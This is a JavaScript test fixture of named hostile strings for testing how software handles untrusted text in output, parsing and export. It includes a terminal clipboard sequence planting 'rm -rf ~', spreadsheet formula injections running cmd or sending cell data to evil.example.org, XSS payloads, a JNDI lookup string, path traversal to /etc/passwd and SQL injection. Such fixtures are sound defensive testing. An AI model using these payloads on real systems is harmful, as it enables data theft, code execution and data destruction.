// Texts that try to hurt whoever prints, parses or exports them. Each kind has
// a name, so that a test can look for its own.

const ESC = '\u001b';
const BEL = '\u0007';

export const HOSTILE = {
	clear_screen: `${ESC}[2J${ESC}[HYou have been cleared`,
	title_and_link: `${ESC}]0;owned${BEL}${ESC}]8;;http://evil.example.org/${BEL}click${ESC}]8;;${BEL}`,
	clipboard: `${ESC}]52;c;cm0gLXJmIH4K${BEL}pasted`,
	c1_controls: 'C1 \u009b31m red \u0085 next',
	right_to_left: 'invoice\u202Egpj.exe \u2067isolate\u2069',
	zero_width: 'ad\u200bmin\u200d \ufeffjoined\u2060',
	nul: 'before\u0000after',
	lone_surrogate: 'half \ud83d pair \udc00 end',
	formula: '=HYPERLINK("http://evil.example.org/?x="&A1,"open")',
	formula_plus: "+cmd|' /C calc'!A0",
	formula_minus: "-2+3+cmd|' /C calc'!A0",
	formula_at: "@SUM(1+9)*cmd|' /C calc'!A0",
	formula_tab: '\t=1+1',
	formula_cr: '\r=1+1',
	html: '<script>alert(1)</script><img src=x onerror=alert(2)>',
	attribute: '" onmouseover="alert(1)" x="',
	markdown: '[click](javascript:alert(1)) ![](http://evil.example.org/t.png)',
	csv: 'quote " comma , semicolon ; \r\nnew line, "and more"',
	format: '%s%s%n%x {0} ${jndi:ldap://evil.example.org/a} {{name}}',
	combining: 'Z' + '\u0351\u0321\u0334'.repeat(60) + 'algo',
	brackets: '![[]('.repeat(400),
	path: '../../../../etc/passwd\u0000.md',
	sql: "Robert'); DROP TABLE leads;--",
	emoji: '👩‍👩‍👧‍👦🏳️‍🌈 ﷽ ꧅',
};

const KINDS = Object.keys(HOSTILE);

/** The kinds that people of a generated world bear; README and comments of
 * 'huge' ones pass the 512,000 bytes at which Blob.text is cut. */
export const hostileKinds = [...KINDS, 'huge'];

/** One hostile text; 'huge' (512 KB and a bit) is made when it is asked for. */
export function hostileText(kind) {
	if (kind === 'huge') return ('All work and no play. '.repeat(1000) + '\n').repeat(24);
	return HOSTILE[kind];
}

/** As much of a kind as a short field of a profile may hold (160 characters). */
export function hostileShort(kind) {
	return (HOSTILE[kind] ?? 'x'.repeat(160)).slice(0, 160);
}
